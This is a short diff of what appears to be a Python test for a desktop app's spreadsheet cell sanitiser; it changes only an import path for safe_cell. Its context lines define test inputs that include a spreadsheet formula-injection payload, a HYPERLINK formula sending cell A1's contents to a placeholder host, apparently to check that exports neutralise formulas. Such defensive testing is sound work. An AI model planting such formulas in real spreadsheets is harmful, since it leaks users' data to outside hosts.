@@ -7,7 +7,7 @@ import csv
 from cli_helpers import run, run_json
 from openpyxl import load_workbook
 
-from desktop_app.services.spreadsheet_cells import safe_cell
+from desktop_app.services.safe_cells import safe_cell
 
 VILLAGE_NAME = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
 DUSUN = "=1+2"
